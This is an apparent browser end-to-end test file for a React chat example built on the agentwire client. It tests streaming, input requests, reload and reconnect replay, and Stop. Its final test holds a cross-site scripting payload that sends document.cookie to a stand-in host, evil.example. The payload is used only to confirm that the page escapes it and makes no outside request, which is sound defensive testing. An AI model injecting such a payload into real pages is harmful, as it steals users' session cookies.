// examples/react-chat (@agentwire/react's useChat over @agentwire/client,
// both installed as packed copies, built with esbuild) in headless Chromium
// against agentwire: an answer typed with real keys, an input request
// answered in the page, a reload and a dropped connection mid-answer that
// show every word once, Stop, and an answer an attacker wrote that stays
// text.
//
// Needs AGENTWIRE_BIN, /usr/bin/chromium and the example built
// (`npm ci && npm run build` in examples/react-chat; .ci/run does it).
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { freePort, startProxy, startServer, tempDir } from '../js/test/support/helpers.mjs';
import { launch, serveExample, type } from './support.mjs';

let site;
let browser;
let server;
let proxy;
let origin;
let api;

before(async () => {
  site = await serveExample('react-chat');
  origin = site.origin;
  const port = await freePort();
  server = await startServer(tempDir(), port, ['--cors-origins', origin]);
  // The page talks to the server through a proxy that can cut its socket.
  proxy = await startProxy(port, { plain: true });
  api = `http://127.0.0.1:${proxy.port}`;
  browser = await launch();
});

after(async () => {
  site?.close();
  proxy?.close();
  await browser?.close();
  server?.kill('SIGKILL');
});

/** The page on a new chat; every request it makes is recorded. */
async function open() {
  const page = await browser.newPage();
  page.requested = [];
  page.on('request', (r) => page.requested.push(r.url()));
  await page.goto(`${origin}/?server=${encodeURIComponent(api)}`);
  await page.locator('[data-connection="open"]').waitFor({ timeout: 20000 });
  return page;
}

async function say(page, text) {
  await type(page.locator('input[name=text]'), text);
  await page.press('input[name=text]', 'Enter');
}

const agentSaid = (page) => page.locator('.msg.agent').last();
const words = (n) => Array.from({ length: n }, (_, i) => `w${i + 1}`).join(' ');

test('an answer streams in; an input request is answered in the page; the chat is in the address', async () => {
  const page = await open();
  await say(page, 'hello');
  await agentSaid(page).filter({ hasText: 'You said: hello' }).waitFor({ timeout: 20000 });
  assert.match(new URL(page.url()).searchParams.get('chat') ?? '', /^[0-9a-f-]{36}$/);
  await say(page, 'ask: Your name?');
  const form = page.locator('form.input');
  await form.getByText('Your name?').waitFor();
  await type(form.locator('input'), 'Ada');
  await form.locator('button').click();
  await agentSaid(page).filter({ hasText: 'You answered: Ada' }).waitFor({ timeout: 20000 });
  await page.locator('form.input').waitFor({ state: 'detached' });
  assert.deepEqual(await page.locator('.msg').allTextContents(), ['hello', 'You said: hello', 'ask: Your name?', 'Ada', 'You answered: Ada']);
  await page.close();
});

test('a reload mid-answer replays the chat: every word once', async () => {
  const page = await open();
  await say(page, 'slow: 120');
  await agentSaid(page).filter({ hasText: 'w10 ' }).waitFor({ timeout: 20000 });
  await page.reload();
  await agentSaid(page).filter({ hasText: 'w120' }).waitFor({ timeout: 20000 });
  await page.locator('[data-run="idle"]').waitFor();
  assert.deepEqual(await page.locator('.msg').allTextContents(), ['slow: 120', words(120)]);
  await page.close();
});

test('a connection cut mid-answer reconnects and resumes: every word once', async () => {
  const page = await open();
  await say(page, 'slow: 120');
  await agentSaid(page).filter({ hasText: 'w10 ' }).waitFor({ timeout: 20000 });
  proxy.cutAll();
  await agentSaid(page).filter({ hasText: 'w120' }).waitFor({ timeout: 30000 });
  await page.locator('[data-run="idle"]').waitFor();
  assert.deepEqual(await page.locator('.msg').allTextContents(), ['slow: 120', words(120)]);
  await page.close();
});

test('Stop cancels the run', async () => {
  const page = await open();
  await say(page, 'slow: 400');
  await agentSaid(page).filter({ hasText: 'w5 ' }).waitFor({ timeout: 20000 });
  await page.getByRole('button', { name: 'Stop' }).click();
  await page.locator('[data-run="idle"]').waitFor({ timeout: 20000 });
  assert.ok(!(await agentSaid(page).textContent()).includes('w400'));
  await page.close();
});

test('an answer an attacker wrote stays text: no markup runs, nothing leaves the page', async () => {
  const page = await open();
  const evil = '<img src="http://evil.example/x.png" onerror="fetch(\'http://evil.example/\'+document.cookie)"><script>alert(1)</script>';
  await say(page, evil);
  await agentSaid(page).filter({ hasText: 'You said: <img' }).waitFor({ timeout: 20000 });
  assert.equal(await agentSaid(page).textContent(), `You said: ${evil}`);
  assert.equal(await page.locator('.msg img, .msg script').count(), 0);
  const elsewhere = page.requested.filter((u) => !u.startsWith(origin) && !u.startsWith(api) && !u.startsWith(api.replace('http', 'ws')));
  assert.deepEqual(elsewhere, []);
  await page.close();
});
